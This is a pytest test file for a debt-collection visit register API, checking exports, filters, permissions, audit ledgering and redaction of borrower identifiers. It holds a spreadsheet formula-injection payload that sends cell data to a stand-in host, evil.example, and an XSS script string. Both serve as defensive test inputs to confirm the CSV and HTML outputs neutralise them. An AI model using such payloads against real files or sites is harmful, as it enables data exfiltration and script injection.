"""The visit register: every visit attempt's time, place and method, as JSON, CSV and a
printable page; each export in the staff log and its borrower fields in the ledger."""

from __future__ import annotations

import csv
import io
import json
import math
import uuid
from dataclasses import replace
from datetime import timedelta

import pytest

from server.domain.disclosure import build_policy
from tests.conftest import T0, TODAY, case_row

API = "/api/v1"
FIX = {"lat": 31.2013, "lon": 121.4013, "accuracy_m": 12}
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKUP_NAME = "<script>alert('x')</script> & Sons"


def iso(moment) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def stored(moment) -> str:
    """A time as the store writes it (and the register shows it)."""
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def record(kind: str, visit_id: int, minutes_ago: int, body: dict) -> dict:
    return {
        "id": str(uuid.uuid4()),
        "kind": kind,
        "visit_id": visit_id,
        "device_seq": 1,
        "recorded_at": iso(T0 - timedelta(minutes=minutes_ago)),
        "body": body,
    }


def push(client, headers, records: list[dict]) -> list[dict]:
    answer = client.post(
        f"{API}/sync/push", json={"device_time": iso(T0), "records": records}, headers=headers
    )
    assert answer.status_code == 200, answer.json
    return answer.json["outcomes"]


def national_id(db, case_id: int) -> str:
    return db.execute(
        "SELECT b.national_id FROM borrowers b JOIN cases c ON c.borrower_id = b.id WHERE c.id = ?",
        [case_id],
    ).fetchone()[0]


def home(db, case_id: int) -> tuple[float, float]:
    return tuple(
        db.execute(
            "SELECT b.home_lat, b.home_lon FROM borrowers b JOIN cases c ON c.borrower_id = b.id "
            "WHERE c.id = ?",
            [case_id],
        ).fetchone()
    )


def metres(a: tuple[float, float], b: tuple[float, float]) -> float:
    p1, p2 = math.radians(a[0]), math.radians(b[0])
    dp, dl = p2 - p1, math.radians(b[1] - a[1])
    h = math.sin(dp / 2) ** 2 + math.cos(p1) * math.cos(p2) * math.sin(dl / 2) ** 2
    return 2 * 6_371_008.8 * math.asin(math.sqrt(h))


@pytest.fixture
def field(world, client, auth, db):
    """agent1 at v1: badge shown, then the ID checked (typed characters that match), then a
    report from a fix near the home; agent2 at v3: a report with no badge shown first, and
    a third party present. v2 and v4 have no report."""
    agent1, agent2 = auth.headers("agent1"), auth.headers("agent2")
    v1, v3 = world.visits["v1"], world.visits["v3"]
    typed = national_id(db, world.cases["C-0001"])[-6:]
    outcomes = push(
        client,
        agent1,
        [
            record(
                "id_confirmation",
                v1,
                45,
                {
                    "confirmation_kind": "agent_credential",
                    "badge_number": "B-1",
                    "borrower_acknowledged": True,
                },
            ),
            record(
                "id_confirmation",
                v1,
                43,
                {"confirmation_kind": "borrower_identity", "id_last6": typed},
            ),
            record(
                "visit_report",
                v1,
                30,
                {
                    "arrived_at": iso(T0 - timedelta(minutes=44)),
                    "departed_at": iso(T0 - timedelta(minutes=31)),
                    "outcome": "promise_to_pay",
                    "promise_amount": "300.00",
                    "promise_date": "2026-12-01",
                    "notes": "REGISTER-TEST private note",
                    "location": FIX,
                },
            ),
        ],
    )
    assert all(o["status"] in ("accepted", "flagged") for o in outcomes), outcomes
    outcomes = push(
        client,
        agent2,
        [
            record(
                "visit_report",
                v3,
                20,
                {
                    "arrived_at": iso(T0 - timedelta(minutes=25)),
                    "outcome": "third_party_met",
                    "third_party_present": True,
                    "debt_discussed_with_third_party": True,
                    "location": {"lat": 31.25, "lon": 121.45, "accuracy_m": 8},
                },
            )
        ],
    )
    assert outcomes[0]["status"] == "flagged", outcomes
    return {"typed": typed}


def get(client, headers, query: str, request_id: str | None = None):
    extra = {"X-Request-Id": request_id} if request_id else {}
    return client.get(f"{API}/register?{query}", headers={**headers, **extra})


def lines_of(response, visit_id: int) -> list[dict]:
    return [line for line in response.json["items"] if line["visit_id"] == visit_id]


def test_a_day_shows_every_attempt_and_every_visit_without_one(world, client, auth, db, field):
    answer = get(client, auth.headers("dispatcher"), f"day={TODAY}")
    assert answer.status_code == 200, answer.json
    items = answer.json["items"]
    assert {line["visit_id"] for line in items} == set(world.visits.values())
    (v1,) = lines_of(answer, world.visits["v1"])
    assert v1["attempt"] == "reported" and v1["method"] == "home_visit"
    assert (v1["planned_window_start"], v1["planned_window_end"]) == ("09:00", "11:00")
    assert v1["arrived_at"] == stored(T0 - timedelta(minutes=44))
    assert v1["departed_at"] == stored(T0 - timedelta(minutes=31))
    # the planned window is the borrower's clock, and so are the local times beside it
    assert (v1["arrived_local"], v1["departed_local"]) == ("09:16", "09:29")
    assert v1["outcome"] == "promise_to_pay" and v1["visit_status"] == "completed"
    assert (v1["reported_lat"], v1["reported_lon"], v1["accuracy_m"]) == (31.2013, 121.4013, 12)
    assert v1["badge_shown_before_contact"] is True
    assert v1["identity_result"] == "match"
    assert v1["third_party_present"] is False
    assert v1["borrower_name"] == "Borrower 1" and v1["agent_name"] == "agent1"
    (v2,) = lines_of(answer, world.visits["v2"])
    assert v2["attempt"] == "not_attempted"
    assert v2["arrived_at"] is None and v2["badge_shown_before_contact"] is None  # same shape
    assert v2["identity_result"] is None and v2["flags"] == []
    (v3,) = lines_of(answer, world.visits["v3"])
    assert v3["badge_shown_before_contact"] is False
    assert v3["third_party_present"] is True and v3["debt_discussed_with_third_party"] is True
    codes = {flag["code"] for flag in v3["flags"]}
    assert {"credential_not_shown_first", "third_party_debt_discussed"} <= codes
    assert all(f["review_status"] == "open" and f["record_id"] for f in v3["flags"])


def test_distance_from_the_home_is_measured_from_the_reported_fix(world, client, auth, db, field):
    answer = get(client, auth.headers("dispatcher"), f"case_id={world.cases['C-0001']}")
    (line,) = answer.json["items"]
    expected = metres((FIX["lat"], FIX["lon"]), home(db, world.cases["C-0001"]))
    assert 20 < expected < 100  # the fix is a little way from the door
    assert line["distance_from_home_m"] == pytest.approx(expected, abs=0.2)


def test_a_visit_whose_day_ended_with_no_report_is_missed(world, client, auth, clock, field):
    clock.advance(hours=15)  # past midnight in Shanghai: the day closes on the next request
    auth.sessions.clear()
    answer = get(client, auth.headers("dispatcher"), f"agent_id={world.users['agent1']}")
    assert answer.status_code == 200, answer.json
    (v2,) = lines_of(answer, world.visits["v2"])
    assert (v2["attempt"], v2["visit_status"]) == ("missed", "missed")


def test_filters_by_agent_team_case_and_days(world, client, auth, db, field):
    dispatcher = auth.headers("dispatcher")
    answer = get(client, dispatcher, f"agent_id={world.users['agent2']}")
    assert {line["visit_id"] for line in answer.json["items"]} == {
        world.visits["v3"],
        world.visits["v4"],
    }
    admin = auth.headers("admin")
    patched = client.patch(
        f"{API}/users/{world.users['agent2']}", json={"region": "East"}, headers=admin
    )
    assert patched.status_code == 200, patched.json
    answer = get(client, dispatcher, "team=East")
    assert {line["agent_name"] for line in answer.json["items"]} == {"agent2"}
    assert all(line["team"] == "East" for line in answer.json["items"])
    assert get(client, dispatcher, "team=West").json["items"] == []
    answer = get(client, dispatcher, f"case_id={world.cases['C-0002']}")
    assert [line["visit_id"] for line in answer.json["items"]] == [world.visits["v2"]]
    assert get(client, dispatcher, "since=2026-11-25&until=2026-11-30").json["items"] == []
    answer = get(client, dispatcher, f"since={TODAY}&until={TODAY}")
    assert len({line["visit_id"] for line in answer.json["items"]}) == 4
    # pages count visits
    first = get(client, dispatcher, f"day={TODAY}&limit=2")
    assert len(first.json["items"]) == 2 and first.json["next_after"] is not None
    rest = get(client, dispatcher, f"day={TODAY}&limit=2&after={first.json['next_after']}")
    seen = {line["visit_id"] for line in first.json["items"] + rest.json["items"]}
    assert seen == set(world.visits.values())


@pytest.mark.parametrize(
    ("query", "field_name"),
    [
        ("", "day"),
        ("format=csv", "day"),
        ("day=2026-13-01", "day"),
        ("day=9999-12-31", "day"),
        (f"day={TODAY}&since={TODAY}", "day"),
        ("since=2026-11-24&until=2026-11-01", "until"),
        ("since=2026-01-01&until=2026-06-30", "until"),
        ("agent_id=abc", "agent_id"),
        (f"day={TODAY}&format=pdf", "format"),
        (f"day={TODAY}&limit=0", "limit"),
        (f"day={TODAY}&region=East", "region"),
        ("team=", "team"),
    ],
)
def test_bad_filters_are_a_4xx_naming_the_field(world, client, auth, query, field_name):
    answer = get(client, auth.headers("dispatcher"), query)
    assert answer.status_code == 422, answer.json
    assert answer.json["error"]["field"] == field_name or field_name in json.dumps(
        answer.json["error"].get("details", {})
    ), answer.json


@pytest.mark.parametrize("user", ["agent1", "privacy", "admin"])
def test_only_dispatchers_read_the_register(world, client, auth, user):
    answer = get(client, auth.headers(user), f"day={TODAY}")
    assert answer.status_code == 403 and answer.json["error"]["code"] == "forbidden"


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _plan(world, client, auth, n: int, **overrides) -> int:
    dispatcher = auth.headers("dispatcher")
    row = case_row(n, **overrides)
    imported = client.post(
        f"{API}/cases/import",
        data=json.dumps(row),
        headers={**dispatcher, "Content-Type": "application/x-ndjson"},
    )
    assert imported.status_code == 200, imported.json
    case_id = client.get(
        f"{API}/cases", query_string={"external_id": row["case_external_id"]}, headers=dispatcher
    ).json["items"][0]["id"]
    visit = client.post(
        f"{API}/visits",
        json={
            "case_id": case_id,
            "agent_id": world.users["agent1"],
            "visit_date": TODAY,
            "notice": {"kind": "appointment"},
        },
        headers=dispatcher,
    )
    assert visit.status_code == 201, visit.json
    return case_id


def test_csv_neutralises_a_name_that_would_run_as_a_formula(world, client, auth, field):
    case_id = _plan(world, client, auth, 8, full_name=FORMULA_NAME)
    answer = get(client, auth.headers("dispatcher"), f"case_id={case_id}&format=csv")
    assert answer.status_code == 200
    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    (row,) = _csv(answer.get_data(as_text=True))
    assert row["borrower_name"] == "'" + FORMULA_NAME
    assert row["attempt"] == "not_attempted"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_csv_carries_the_attempt_with_yes_no_and_flag_review_states(world, client, auth, field):
    answer = get(client, auth.headers("dispatcher"), f"day={TODAY}&format=csv")
    rows = _csv(answer.get_data(as_text=True))
    assert len(rows) == 4
    v1 = next(r for r in rows if r["visit_id"] == str(world.visits["v1"]))
    assert (v1["badge_shown_before_contact"], v1["identity_result"]) == ("yes", "match")
    assert (v1["reported_lat"], v1["reported_lon"]) == ("31.2013", "121.4013")
    v3 = next(r for r in rows if r["visit_id"] == str(world.visits["v3"]))
    assert v3["badge_shown_before_contact"] == "no" and v3["third_party_present"] == "yes"
    assert "credential_not_shown_first (open)" in v3["flags"].split(";")


@pytest.mark.parametrize("fmt", ["json", "csv", "html"])
def test_an_export_is_ledgered_and_in_the_staff_log(world, client, auth, db, field, fmt):
    request_id = f"register-{fmt}-0001"
    answer = get(client, auth.headers("dispatcher"), f"day={TODAY}&format={fmt}", request_id)
    assert answer.status_code == 200
    entries = list(db.query("SELECT * FROM exposure_ledger WHERE request_id = ?", [request_id]))
    by_borrower = {e["borrower_id"]: e for e in entries}
    b1 = db.execute(
        "SELECT borrower_id FROM cases WHERE id = ?", [world.cases["C-0001"]]
    ).fetchone()[0]
    assert len(by_borrower) == len(entries) == 4  # one entry per borrower of the day
    assert set(json.loads(by_borrower[b1]["fields"])) == {
        "display_name",
        "visit_outcome",
        "gps_fix",
        "id_result",
    }
    assert {e["purpose"] for e in entries} == {"visit_register"}
    assert all(e["endpoint"] == "GET /api/v1/register" for e in entries)
    (logged,) = db.query("SELECT * FROM staff_audit WHERE request_id = ?", [request_id])
    details = json.loads(logged["details"])
    assert logged["action"] == "visit_register.export"
    assert logged["user_id"] == world.users["dispatcher"]
    assert details["format"] == fmt
    assert details["filters"] == {"since": TODAY, "until": TODAY}
    assert (details["visits"], details["rows"]) == (4, 4)


@pytest.mark.parametrize("fmt", ["json", "csv", "html"])
def test_no_id_number_or_typed_characters_in_any_format(world, client, auth, db, field, fmt):
    answer = get(client, auth.headers("dispatcher"), f"day={TODAY}&format={fmt}")
    text = answer.get_data(as_text=True)
    assert field["typed"] not in text
    for case_id in world.cases.values():
        assert national_id(db, case_id) not in text
    assert "id_last6" not in text and "REGISTER-TEST private note" not in text
    assert "300.00" not in text  # the promise is not the register's business


def test_the_page_escapes_what_people_typed(world, client, auth, field):
    case_id = _plan(world, client, auth, 9, full_name=MARKUP_NAME)
    answer = get(client, auth.headers("dispatcher"), f"case_id={case_id}&format=html")
    assert answer.status_code == 200 and answer.mimetype == "text/html"
    page = answer.get_data(as_text=True)
    assert "<script>" not in page
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; Sons" in page
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    assert "@media print" in page


def test_a_fact_the_policy_withholds_is_left_out_of_every_format(app, world, client, auth, field):
    """CSV and HTML go through the same ledger layer as JSON: what the reader's policy does
    not allow for the register's purpose is neither rendered nor ledgered."""
    narrowed = build_policy({"dispatcher": {"visit_register": ["display_name", "visit_outcome"]}})
    app.extensions["doorstep"] = replace(app.extensions["doorstep"], disclosure=narrowed)
    dispatcher = auth.headers("dispatcher")
    for fmt in ("csv", "html"):
        text = get(client, dispatcher, f"day={TODAY}&format={fmt}").get_data(as_text=True)
        assert "31.2013" not in text and "Borrower 1" in text
    (row,) = [
        r
        for r in _csv(get(client, dispatcher, f"day={TODAY}&format=csv").get_data(as_text=True))
        if r["visit_id"] == str(world.visits["v1"])
    ]
    assert (row["reported_lat"], row["distance_from_home_m"], row["identity_result"]) == ("",) * 3
    assert row["outcome"] == "promise_to_pay"


def test_flags_carry_their_review_state_from_the_review_queue(world, client, auth, field):
    dispatcher = auth.headers("dispatcher")
    (v3,) = lines_of(get(client, dispatcher, f"day={TODAY}"), world.visits["v3"])
    flag = next(f for f in v3["flags"] if f["code"] == "credential_not_shown_first")
    assert (flag["review_status"], flag["review_disposition"]) == ("open", None)
    resolved = client.post(
        f"{API}/flags/{flag['record_id']}/{flag['code']}/resolve",
        json={"disposition": "breach", "comment": "badge shown late", "version": 0},
        headers=dispatcher,
    )
    assert resolved.status_code == 200, resolved.json
    (v3,) = lines_of(get(client, dispatcher, f"day={TODAY}"), world.visits["v3"])
    states = {f["code"]: (f["review_status"], f["review_disposition"]) for f in v3["flags"]}
    assert states["credential_not_shown_first"] == ("resolved", "breach")
    assert states["third_party_debt_discussed"] == ("open", None)
    rows = _csv(get(client, dispatcher, f"day={TODAY}&format=csv").get_data(as_text=True))
    row = next(r for r in rows if r["visit_id"] == str(world.visits["v3"]))
    assert "credential_not_shown_first (resolved: breach)" in row["flags"].split(";")
    assert "badge shown late" not in json.dumps(rows)  # the reviewer's comment is not here
